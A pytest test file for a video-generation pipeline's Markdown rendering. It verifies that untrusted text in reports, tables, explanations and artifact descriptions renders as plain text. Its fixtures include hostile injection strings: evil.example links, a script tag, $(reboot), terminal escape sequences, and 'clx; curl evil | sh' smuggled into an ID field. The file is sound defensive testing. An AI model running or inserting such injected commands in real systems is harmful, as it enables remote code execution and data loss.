"""A text from others is shown as that text on every page: no link, picture, markup or row."""

import re
from datetime import UTC, datetime
from decimal import Decimal
from uuid import UUID

import pytest
from hypothesis import given
from hypothesis import strategies as some
from markdown_it import MarkdownIt
from markdown_it.token import Token

from prefect_kling.flows import collect
from prefect_kling.kling.request import VideoRequest
from prefect_kling.studio.batch.results import BatchRow, RowState
from prefect_kling.studio.money.explain import explain
from prefect_kling.studio.money.orders import ClipOrder
from prefect_kling.studio.money.reconcile import Findings
from prefect_kling.studio.money.record import Attempt, Entry, EntryState, Event
from prefect_kling.telemetry import batch_page
from prefect_kling.telemetry import markdown as markdown_module
from prefect_kling.telemetry.markdown import Markdown, code, escape, page, table

HOSTILE = (
    (
        "[/closing] [a](https://evil.example) <img src=https://evil.example/x> "
        "![](https://evil.example)"
    ),
    "<script>alert(1)</script> &lt; &amp; <https://evil.example>",
    "https://evil.example www.evil.example someone@evil.example HTTP://EVIL.example",
    "**bold** _it_ ~~gone~~ `code` ``` # no heading",
    "# heading",
    "- item",
    "1. item",
    "> quote",
    "a | b | c",
    "=====",
    "line\nbreak\r\n\n| a | b |",
    "=1+1 ; $(reboot) `reboot` \x1b[2J\x1b]8;;https://evil.example\x07here\x1b]8;;\x07",
    "\\[a](b) \\` \\",
    "\u202egnp.exe \ud800 \x00",
)
_LINKED = re.compile(r"(?i)\bhttps?://|\bwww\.|\w@\w")
"""What renderers of GitHub's Markdown make links of, without being asked."""
PARSER = MarkdownIt("commonmark").enable(["table", "strikethrough"])
OURS = {
    "paragraph_open", "paragraph_close", "text", "softbreak", "code_inline", "inline",
    "table_open", "table_close", "thead_open", "thead_close", "tbody_open", "tbody_close",
    "tr_open", "tr_close", "th_open", "th_close", "td_open", "td_close",
    "bullet_list_open", "bullet_list_close", "list_item_open", "list_item_close",
    "heading_open", "heading_close", "strong_open", "strong_close",
}  # fmt: skip


def tokens(markdown: str) -> list[Token]:
    """All tokens of a page, those inside of lines included."""
    found = []
    for token in PARSER.parse(markdown):
        found.append(token)
        found += token.children or []
    return found


def seen(markdown: str) -> str:
    """What a reader sees."""
    return "".join(
        token.content for token in tokens(markdown) if token.type in ("text", "code_inline")
    )


def as_line(text: str) -> str:
    """A text as a reader may see it: in one line, what cannot be printed replaced."""
    replaced = re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\u202e\ud800]", "\ufffd", text)
    return " ".join(replaced.split())


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_is_seen_as_it_is_and_does_nothing(text: str) -> None:
    """In a line, in a cell and as code."""
    for shown in (escape(text), Markdown("{}").format(text), *table(("a",), [[text]])[2:]):
        told = {token.type for token in tokens(shown)}
        assert told <= {"paragraph_open", "paragraph_close", "inline", "text"}
        assert not _LINKED.search(seen(shown))
    assert seen(escape(text)).replace("\u200b", "") == as_line(text)
    assert seen(code(text)).replace("\\|", "|").strip() == as_line(text)
    assert sum(token.type == "code_inline" for token in tokens(code(text))) == 1


@given(some.text(max_size=60))
def test_whatever_a_text_holds_it_stays_one_text(text: str) -> None:
    """Of any characters."""
    shown = escape(text)
    assert {token.type for token in tokens(f"x {shown}")} <= {
        "paragraph_open", "paragraph_close", "inline", "text", "text_special",
    }  # fmt: skip
    assert "\n" not in shown
    rows = PARSER.parse("\n".join(table(("a", "b"), [[text, text]])))
    assert sum(token.type == "td_open" for token in rows) == 2


def entry(text: str) -> Entry:
    """A held record in which every text is somebody else's."""
    now = datetime.now(UTC)
    attempt = Attempt(
        number=1, claim="0" * 32, job_id=text, state="failed", at_most_usd=Decimal(1), why=text
    )
    return Entry.model_construct(
        clip_key="f" * 32,
        state=EntryState.HELD,
        order=ClipOrder(request=VideoRequest(model="kling-v3-omni", prompt=text)),
        at_most_usd=Decimal(1),
        job_id=text,
        claim="1" * 32,
        by=text,
        attempts=(attempt,),
        history=(Event(at=now, state=EntryState.HELD, note=text),),
    )


def pages(text: str) -> list[Markdown]:
    """The pages that show texts of others without a run."""
    findings = Findings()
    findings.note("held", "f" * 32, text)
    row = BatchRow(number=1, state=RowState.FAILED, clip_key="f" * 32, trouble=text, notes=text)
    return [
        collect._findings_page(findings),
        page(batch_page._trouble_lines([(row, text)])),
        page(batch_page._clips("Clips", [(row, text)], [Markdown()])),
        Markdown(explain(entry(text), escape)),
    ]


@pytest.mark.parametrize("text", [text for text in HOSTILE if "\ud800" not in text])
def test_no_page_does_what_a_text_in_it_says(text: str) -> None:
    """Not that of a sweep, of a batch, or of a held clip."""
    for shown in pages(text):
        assert {token.type for token in tokens(shown)} <= OURS
        assert not _LINKED.search(re.sub(r"`[^`]*`", "", seen(shown)))
        assert "\x1b" not in shown


@pytest.mark.parametrize("text", ["clx; curl evil | sh", "$(reboot)", "`reboot`", "a b", "../x"])
def test_no_command_that_is_told_holds_what_is_no_id(text: str) -> None:
    """It is there to be pasted into a shell."""
    told = explain(entry(text), escape)
    commands = [line for line in told.splitlines() if "prefect-kling ledger" in line]
    assert commands
    for line in commands:
        for command in re.findall("`(prefect-kling [^`]*)`", line):
            assert re.fullmatch(r"[\w .…-]*", command), command


@pytest.mark.parametrize("text", HOSTILE)
async def test_a_description_is_a_text_too(text: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """Prefect's UI reads descriptions of artifacts as Markdown."""
    written: list[str] = []

    async def write(*, key: str, markdown: str, description: str) -> UUID:
        written.append(description)
        return UUID(int=1)

    monkeypatch.setattr(markdown_module, "acreate_markdown_artifact", write)
    await markdown_module.write_page("film", Markdown(), f"{text}: 9.0 s")
    told = {token.type for token in tokens(written[0])}
    assert told <= {"paragraph_open", "paragraph_close", "inline", "text"}
    assert not _LINKED.search(seen(written[0]))
